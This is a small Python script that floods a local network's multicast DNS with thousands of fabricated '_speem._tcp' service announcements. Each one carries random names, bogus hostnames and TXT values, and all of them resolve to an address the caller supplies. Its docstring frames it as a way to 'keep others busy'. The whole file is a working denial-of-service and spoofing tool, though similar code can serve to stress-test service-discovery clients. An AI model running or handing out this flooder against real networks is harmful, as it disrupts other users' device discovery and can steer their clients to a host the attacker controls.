"""Announces thousands of made-up SPEEM services over multicast DNS, as somebody does who wants to keep others busy.

    flood.py COUNT ADDRESS
"""

import os
import socket
import struct
import sys
import time

GROUP, PORT = "224.0.0.251", 5353
LOCAL = b"\x05local\0"
TYPE = b"\x06_speem\x04_tcp" + LOCAL


def label(text: bytes) -> bytes:
    return bytes([len(text)]) + text


def record(name: bytes, kind: int, data: bytes, unique: bool = True) -> bytes:
    return name + struct.pack(">HHIH", kind, 0x8001 if unique else 1, 4500, len(data)) + data


def announcement(address: bytes) -> bytes:
    name = os.urandom(8).hex().encode()
    instance = label(name) + TYPE
    host = label(b"bogus-" + name) + LOCAL
    txt = b"".join(
        label(text) for text in (b"v=1", b"r=" + os.urandom(16).hex().encode(), b"t=" + os.urandom(16).hex().encode())
    )
    answers = [
        record(TYPE, 12, instance, unique=False),
        record(instance, 33, struct.pack(">3H", 0, 0, 4404) + host),
        record(instance, 16, txt),
        record(host, 1, address),
    ]
    return struct.pack(">6H", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)


def main() -> None:
    count, own = int(sys.argv[1]), sys.argv[2]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind(("", PORT))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    for number in range(count):
        sock.sendto(announcement(socket.inet_aton(own)), (GROUP, PORT))
        if number % 20 == 19:
            time.sleep(0.02)


main()
